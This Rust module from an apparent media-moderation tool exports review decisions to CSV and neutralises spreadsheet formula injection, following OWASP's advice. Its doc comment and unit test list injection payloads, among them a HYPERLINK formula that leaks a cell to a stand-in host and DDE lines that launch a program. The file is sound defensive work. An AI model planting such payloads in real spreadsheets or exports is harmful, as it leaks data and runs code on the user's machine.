//! The CSV export of decisions, safe to open in a spreadsheet.
//!
//! Moderators open these exports in Excel or LibreOffice, and a cell that starts like a formula
//! is evaluated there: a file name or note of `=HYPERLINK("http://…/?leak="&A1,"x")` would leak
//! the sheet, `+cmd|' /C calc'!A0` would run a program (DDE). The rule, after OWASP's
//! CSV-injection guidance: every cell is quoted, and a cell that starts with `=`, `+`, `-`, `@`,
//! a tab or a carriage return (looking past any leading `'`) gets one more `'` in front, which
//! spreadsheets show as text. `dfserve score --labels` reads the export back through
//! [`csv_uncell`], which removes exactly that `'`.

use super::model::Decision;

/// Characters a spreadsheet reads as the start of a formula (OWASP's CSV-injection list).
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell as exported: one that a spreadsheet would take for a formula gets a leading `'`,
/// which spreadsheets show as text and do not evaluate (OWASP's advice; every cell is also
/// quoted, so a locale whose separator is `;` cannot split one).
pub fn csv_cell(s: &str) -> std::borrow::Cow<'_, str> {
    if is_formula(s) {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

/// Whether a cell needs the `'`: it starts with a formula character once any leading `'`s are
/// set aside (counting those keeps the rule lossless: a name that itself starts `'=` gets a
/// second `'`, and reading back removes exactly one).
fn is_formula(s: &str) -> bool {
    s.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// A cell as read back: undoes [`csv_cell`].
pub fn csv_uncell(s: &str) -> &str {
    match s.strip_prefix('\'') {
        Some(rest) if is_formula(rest) => rest,
        _ => s,
    }
}

/// The CSV export's header: `path,label` first, so `dfserve score --labels` reads it (by
/// column name; rows are matched to files by `sha256`, else by `path`), then the rest.
const CSV_HEADER: [&str; 15] = [
    "path",
    "label",
    "sha256",
    "decision",
    "reviewer",
    "decided_at",
    "kind",
    "model",
    "score",
    "verdict",
    "face_scores",
    "matches",
    "c2pa",
    "added_to_list",
    "note",
];

/// CSV rows of `decisions`, after the header when `header`; every cell quoted and neutralised
/// by [`csv_cell`].
pub fn csv_rows(decisions: &[Decision], header: bool) -> anyhow::Result<Vec<u8>> {
    let mut w = csv::WriterBuilder::new().quote_style(csv::QuoteStyle::Always).from_writer(Vec::new());
    if header {
        w.write_record(CSV_HEADER)?;
    }
    let opt = |s: &Option<String>| s.clone().unwrap_or_default();
    for d in decisions {
        let faces: Vec<String> =
            d.shown.faces.iter().map(|f| f.score.map(|s| format!("{s:.4}")).unwrap_or_default()).collect();
        let cells = [
            d.filename.clone().unwrap_or_else(|| d.sha256.clone()),
            d.decision.label().to_string(),
            d.sha256.clone(),
            d.decision.as_str().to_string(),
            d.reviewer.clone(),
            d.decided_at.clone(),
            opt(&d.kind),
            opt(&d.shown.model),
            d.shown.score.map(|s| format!("{s:.4}")).unwrap_or_default(),
            opt(&d.shown.verdict),
            faces.join(";"),
            d.shown.matches.join(";"),
            opt(&d.shown.c2pa),
            opt(&d.added_to_list),
            opt(&d.note),
        ];
        w.write_record(cells.iter().map(|c| csv_cell(c).into_owned()))?;
    }
    Ok(w.into_inner()?)
}

/// The whole CSV export of `decisions`.
pub fn to_csv(decisions: &[Decision]) -> anyhow::Result<Vec<u8>> {
    csv_rows(decisions, true)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decisions::model::{Call, Shown};

    #[test]
    fn formula_cells_are_neutralised_and_read_back_unchanged() {
        // OWASP's CSV-injection payloads, and names that only look like them.
        let payloads = [
            "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3",
            "\t=1+2",
            "\r=1+2",
            "=1+2\";=1+2",
            "'=already quoted",
            "''+two",
            "plain.jpg",
            "a,b;c",
            "",
        ];
        for p in payloads {
            let cell = csv_cell(p);
            assert!(!cell.starts_with(FORMULA_START), "{p:?} -> {cell:?}");
            assert_eq!(csv_uncell(&cell), p, "{p:?}");
        }
        let mut d = Decision {
            sha256: "d".repeat(64),
            decision: Call::Manipulated,
            reviewer: "=k".into(),
            decided_at: "t".into(),
            filename: None,
            kind: None,
            note: None,
            shown: Shown::default(),
            added_to_list: None,
        };
        d.filename = Some(payloads[0].into());
        d.note = Some(payloads[1].into());
        d.kind = Some(payloads[2].into());
        d.shown.model = Some(payloads[3].into());
        d.shown.verdict = Some("@x".into());
        d.shown.matches = vec!["=list/id".into()];
        let csv = to_csv(&[d]).unwrap();
        let mut rdr = csv::ReaderBuilder::new().from_reader(csv.as_slice());
        let row = rdr.records().next().unwrap().unwrap();
        for cell in row.iter() {
            assert!(!cell.starts_with(FORMULA_START), "{cell:?} in {row:?}");
        }
        assert_eq!(csv_uncell(&row[0]), payloads[0]);
    }
}
